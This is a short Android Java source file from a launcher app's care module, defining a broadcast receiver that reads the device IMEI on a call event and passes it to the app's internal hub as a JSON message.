package com.fukang.launcher.care;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.TelephonyManager;
import com.alibaba.fastjson.JSONObject;
import com.fukang.launcher.base.Hub;

public class CallReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context c, Intent i) {
        TelephonyManager t = (TelephonyManager) c.getSystemService(Context.TELEPHONY_SERVICE);
        JSONObject o = new JSONObject();
        o.put("imei", t.getDeviceId());
        Hub.send("call", o);
    }
}
